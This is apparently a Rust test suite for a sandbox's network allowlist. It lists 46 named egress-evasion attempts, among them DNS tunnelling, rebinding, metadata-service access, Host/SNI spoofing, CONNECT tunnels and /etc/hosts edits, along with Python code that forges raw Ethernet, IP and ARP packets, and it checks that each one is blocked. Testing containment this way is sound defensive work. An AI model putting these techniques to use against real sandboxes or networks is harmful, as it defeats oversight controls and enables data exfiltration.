//! `allowlisted`: the listed names, and no way around them.

use serde_json::json;

use crate::{
    internet::{ALLOWED, ALLOWED_6, OTHER, RESOLVER, Seen, WORKER},
    lab::{self, Lab},
};

/// Names that are looked up outside because they are on the list.
const LISTED: [&str; 9] = [
    "allowed.test",
    "private.test",
    "metadata.test",
    "alias.test",
    "mapped.test",
    "rebind.test",
    "worker.test",
    "loopback.test",
    "bunker.test",
];

async fn bunker(lab: &Lab) -> String {
    let mut list: Vec<_> = LISTED.to_vec();
    list.push("*.wild.test");
    lab.bunker(json!({ "network_profile": "allowlisted", "network_allowlist": list })).await
}

#[test]
fn listed_names_are_reached_and_nothing_else_is() {
    lab::run(&[], async |lab| {
        let id = bunker(&lab).await;
        listed_names_are_reached(&lab, &id).await;
        let attempts: Vec<_> =
            EVASIONS.iter().map(|(name, script)| (*name, fill(script))).collect();
        let attempts: Vec<_> = attempts.iter().map(|(name, text)| (*name, text.as_str())).collect();
        lab.none_gets_out(&id, &attempts, &LISTED).await;
        // It was not shut off altogether meanwhile.
        lab.sh(&id, "curl -ksS https://allowed.test/").await.unwrap();
    });
}

fn fill(script: &str) -> String {
    let names = [("ALLOWED_6", ALLOWED_6), ("ALLOWED", ALLOWED), ("OTHER", OTHER)];
    let names = names.into_iter().chain([("RESOLVER", RESOLVER), ("WORKER", WORKER)]);
    names.fold(script.to_owned(), |script, (name, value)| script.replace(name, value))
}

async fn listed_names_are_reached(lab: &Lab, id: &str) {
    for (line, expected) in [
        ("curl -ksS https://allowed.test/", "this is allowed.test\n"),
        ("curl -sS http://allowed.test/", "this is allowed.test\n"),
        ("curl -sS http://allowed.test:8080/", "this is allowed.test\n"),
        ("curl -ksS --http1.1 https://allowed.test:8443/", "this is allowed.test\n"),
        ("curl -6 -ksS https://allowed.test/", "this is allowed.test\n"),
        ("curl -sS http://sub.wild.test/", "this is sub.wild.test\n"),
        // However the bunker finds it.
        (
            "curl -ksS --resolve allowed.test:443:203.0.113.9 https://allowed.test/",
            "this is allowed.test\n",
        ),
        // One connection, many requests, bodies included.
        (
            "head -c 3000000 /dev/zero > /tmp/z; curl -sS -T /tmp/z http://allowed.test/a -T /tmp/z http://allowed.test/b",
            "3000000 bytes3000000 bytes",
        ),
        ("head -c 3000000 /dev/zero | curl -ksS -T - https://allowed.test/a", "3000000 bytes"),
        (
            "python3 -c 'import socket; print(socket.gethostbyname(\"allowed.test\"))'",
            "93.184.215.14\n",
        ),
    ] {
        let said = lab.sh(id, line).await;
        assert_eq!(said.as_deref(), Ok(expected), "{line}");
    }
    // What was listed is what the servers saw, at the address that the name has.
    let seen = lab.internet.seen();
    let is_expected = |seen: &Seen| {
        let at = seen.at.ip().to_string();
        seen.what == "dns" || at == ALLOWED || at == ALLOWED_6
    };
    assert!(seen.iter().all(is_expected), "{seen:?}");
    // A person is told why.
    let refused = lab.sh(id, "curl -sS --resolve other.test:80:10.9.9.9 http://other.test/").await;
    assert!(refused.unwrap().contains("the network profile does not allow this name"));
}

/// By name, and as what succeeds if it works.
const EVASIONS: [(&str, &str); 46] = [
    ("another name", "http('OTHER', 'other.test')"),
    ("another name over TLS", "tls('OTHER', 'other.test')"),
    ("another name, looked up", "socket.gethostbyname('other.test')"),
    ("the apex of a wildcard", "http('ALLOWED', 'wild.test')"),
    ("two labels under a wildcard", "http('ALLOWED', 'a.sub.wild.test')"),
    ("an address", "tcp('OTHER', 4444)"),
    ("an allowed name's address", "tcp('ALLOWED', 4444)"),
    ("SSH to an allowed name's address", "tcp('ALLOWED', 22)"),
    ("an address in a URL", "http('ALLOWED', 'ALLOWED')"),
    (
        "an address in a URL over TLS",
        "subprocess.run(['curl', '-ksS', 'https://ALLOWED/'], check=True)",
    ),
    ("another name's SNI at an allowed address", "tls('ALLOWED', 'neighbour.test')"),
    ("no SNI", "tls('ALLOWED', None, request=b'GET / HTTP/1.0\\r\\n\\r\\n')"),
    ("another Host at an allowed address", "http('ALLOWED', 'neighbour.test')"),
    (
        "Host and target that disagree",
        "http('ALLOWED', 'allowed.test', target='http://neighbour.test/')",
    ),
    (
        "two Hosts",
        "assert b' 200 ' in tcp('ALLOWED', 80, b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: neighbour.test\\r\\n\\r\\n')",
    ),
    ("no Host", "assert b' 200 ' in tcp('ALLOWED', 80, b'GET / HTTP/1.0\\r\\n\\r\\n')"),
    (
        "a tunnel by CONNECT",
        "assert b' 200 ' in tcp('ALLOWED', 80, b'CONNECT other.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
    ),
    (
        "HTTP/2 without TLS",
        "assert len(tcp('ALLOWED', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0')) > 0",
    ),
    ("a name that leads to a private address", "http('OTHER', 'private.test')"),
    ("a name that leads to a private address, over TLS", "tls('OTHER', 'private.test')"),
    ("an alias of a private name", "http('OTHER', 'alias.test')"),
    ("a mapped address", "http('OTHER', 'mapped.test')"),
    ("the metadata service by name", "http('OTHER', 'metadata.test')"),
    ("the metadata service", "http('169.254.169.254', 'metadata.test')"),
    ("the host's loopback by name", "http('OTHER', 'loopback.test')"),
    ("the host's loopback", "http('10.201.0.1', 'loopback.test', port=8080)"),
    ("the worker's address by name", "http('OTHER', 'worker.test')"),
    ("another bunker's address", "http('10.201.0.3', 'bunker.test')"),
    (
        "a name that is bound anew",
        "socket.gethostbyname('rebind.test'); time.sleep(2); http('ALLOWED', 'rebind.test')",
    ),
    (
        "/etc/hosts",
        "open('/etc/hosts', 'a').write('OTHER allowed.test\\n'); tcp('allowed.test', 4444)",
    ),
    ("a resolver of its own", "ask('other.test', server='RESOLVER')"),
    (
        "a resolver of its own over TCP",
        "q = question('other.test', 1); a = tcp('RESOLVER', 53, struct.pack('>H', len(q)) + q); assert a[8:10] != b'\\0\\0', a",
    ),
    ("DNS over TLS", "tls('RESOLVER', 'one.test', port=853)"),
    ("DNS over HTTPS", "tls('RESOLVER', 'dns.test')"),
    ("a lookup on another port", "udp('RESOLVER', 4444, question('other.test', 1))"),
    ("data in a label", "ask('a' * 60 + '.' + 'b' * 60 + '.other.test')"),
    ("data below a wildcard's label", "ask('aaaaaaaa.bbbbbbbb.wild.test')"),
    ("data in TXT", "ask('allowed.test', 16)"),
    ("data in NULL", "ask('allowed.test', 10)"),
    ("HTTPS records", "ask('allowed.test', 65)"),
    ("UDP", "udp('OTHER', 4444, b'out')"),
    ("QUIC", "udp('ALLOWED', 443, b'\\xc0\\0\\0\\0\\1' + b'x' * 1200)"),
    ("UDP over IPv6", "udp('ALLOWED_6', 4444, b'out', socket.AF_INET6)"),
    ("an address over IPv6", "tcp('ALLOWED_6', 4444)"),
    ("a mapped address over IPv6", "tcp('::ffff:OTHER', 4444)"),
    ("ping", "ping('ALLOWED')"),
];

/// Of the attempts, those that cannot work even where nothing is refused, because nobody pings
/// through the gateway, or nobody is there.
const HOPELESS: [&str; 3] = ["ping", "the host's loopback", "another bunker's address"];

#[test]
fn the_attempts_would_work_if_they_were_not_stopped() {
    lab::run(&[("SCAIBUNKER_EGRESS_ALLOW", "0.0.0.0/0,::/0")], async |lab| {
        let id = lab.bunker(json!({ "network_profile": "unrestricted" })).await;
        for (name, script) in EVASIONS.iter().filter(|(name, _)| !HOPELESS.contains(name)) {
            let outcome = lab.python(&id, &fill(script)).await;
            assert!(outcome.is_ok(), "{name}: {outcome:?}");
        }
    });
}

/// Packets that a bunker makes itself: what an ordinary one gets, and what a forged one must not.
const FORGERIES: [(&str, &str, &str); 5] = [
    ("a source address", "syn('OTHER')", "syn('OTHER', source='10.201.0.99')"),
    ("a public source address", "syn('OTHER')", "syn('OTHER', source='1.2.3.4')"),
    ("a hardware address", "syn('OTHER')", "syn('OTHER', mac='02:5c:00:00:77:77')"),
    ("fragments", "lookup()", "lookup(cut=True)"),
    ("an address that is another's", "who_has('10.201.0.1')", "who_has('10.201.0.99')"),
];

#[test]
fn forged_packets_go_nowhere() {
    lab::run(&[], async |lab| {
        let id = bunker(&lab).await;
        for (name, ordinary, forged) in FORGERIES {
            let outcome = lab.python(&id, &fill(&format!("{RAW}{ordinary}"))).await;
            assert!(outcome.is_ok(), "{name}: the ordinary packet is not answered: {outcome:?}");
            let forged = fill(&format!("{RAW}{forged}"));
            lab.none_gets_out(&id, &[(name, &forged)], &LISTED).await;
        }
    });
}

#[test]
fn the_documentation_names_every_attempt() {
    let text = include_str!("../../../../docs/network.md");
    let names =
        EVASIONS.iter().map(|(name, _)| name).chain(FORGERIES.iter().map(|(name, ..)| name));
    for name in names {
        let is_listed = text.contains(&format!("| {name} |"));
        assert!(is_listed || text.contains(&format!("| forged: {name} |")), "{name}");
    }
}

/// Ethernet frames, made by hand.
const RAW: &str = r#"
card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
card.bind(('eth0', 0))
card.settimeout(0.5)
own_mac = card.getsockname()[4]
own = socket.inet_aton(subprocess.run(['hostname', '-I'], capture_output=True, text=True).stdout.split()[0])
gateway_mac = bytes.fromhex('025b00000001')

def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def ip(payload, to, source, protocol, fragment=0):
    head = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 77, fragment, 64, protocol, 0, source, to)
    return head[:10] + struct.pack('>H', checksum(head)) + head[12:] + payload

def send(packet, mac=None):
    card.send(gateway_mac + (mac or own_mac) + b'\x08\0' + packet)

def receive(is_it):
    end = time.time() + 2
    while time.time() < end:
        try:
            frame = card.recv(2000)
        except TimeoutError:
            continue
        if is_it(frame):
            return frame
    raise SystemExit('nothing came back')

def syn(to, source=None, mac=None):
    to, source = socket.inet_aton(to), socket.inet_aton(source) if source else own
    head = struct.pack('>HHIIBBHHH', 4321, 4444, 1, 0, 0x50, 2, 1000, 0, 0)
    sum_ = checksum(source + to + struct.pack('>HH', 6, len(head)) + head)
    send(ip(head[:16] + struct.pack('>H', sum_) + head[18:], to, source, 6), mac and bytes.fromhex(mac.replace(':', '')))
    receive(lambda frame: frame[23] == 6 and frame[26:30] == to and frame[30:34] == source and frame[47] & 0x12 == 0x12)

def lookup(cut=False):
    to = socket.inet_aton('10.201.0.1')
    body = question('allowed.test', 1)
    datagram = struct.pack('>HHHH', 4321, 53, 8 + len(body), 0) + body
    if cut:
        send(ip(datagram[:16], to, own, 17, 0x2000))
        send(ip(datagram[16:], to, own, 17, 2))
    else:
        send(ip(datagram, to, own, 17))
    receive(lambda frame: frame[23] == 17 and frame[34:36] == b'\0\x35' and frame[36:38] == struct.pack('>H', 4321))

def who_has(address):
    ask = struct.pack('>HHBBH', 1, 0x800, 6, 4, 1) + own_mac + own + b'\0' * 6 + socket.inet_aton(address)
    card.send(b'\xff' * 6 + own_mac + b'\x08\x06' + ask)
    receive(lambda frame: frame[12:14] == b'\x08\x06' and frame[21] == 2)

"#;
